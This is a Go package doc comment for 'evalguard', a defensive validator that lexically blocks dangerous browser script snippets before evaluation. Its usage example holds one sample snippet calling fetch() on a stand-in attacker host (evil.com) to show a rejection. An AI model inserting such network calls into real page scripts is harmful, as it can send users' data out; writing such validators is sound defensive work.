/*
Package evalguard validates script snippets before they are evaluated in a
browser page context.

# Overview

Automation tools let users and agents pass small functions such as
"(el) => el.textContent" to the browser. The page those functions run in can
still reach cookies, storage and the network, so this package rejects snippets
that mention known-dangerous capabilities before they leave the backend.

The check is lexical. It works on the raw snippet text without stripping
comments or string literals, so a dangerous identifier inside a string still
blocks. Isolation remains the job of the execution environment.

# Decision Order

 1. Empty or whitespace-only snippets are safe
 2. Options.AllowDangerous accepts everything (trusted callers only)
 3. Default rules, then Options.CustomBlockedPatterns; first match wins
 4. Syntax check as a function body, unless Options.SkipSyntaxCheck
 5. Safe

# Usage Example

	result := evalguard.Validate(`() => fetch("https://evil.com")`, evalguard.Options{})
	if !result.Safe {
		log.Println(result.Reason) // Dangerous pattern detected: fetch() - network request
	}

	if err := evalguard.ValidateOrError(snippet, evalguard.Options{}); err != nil {
		var secErr *evalguard.SecurityError
		if errors.As(err, &secErr) {
			// secErr.Name() == evalguard.ErrorName
		}
	}

# Rule Files

Deployments add custom rules through YAML, TOML or JSON files loaded with
LoadRules. File rules are case-insensitive unless marked case_sensitive and
always run after the built-in catalog.
*/
package evalguard
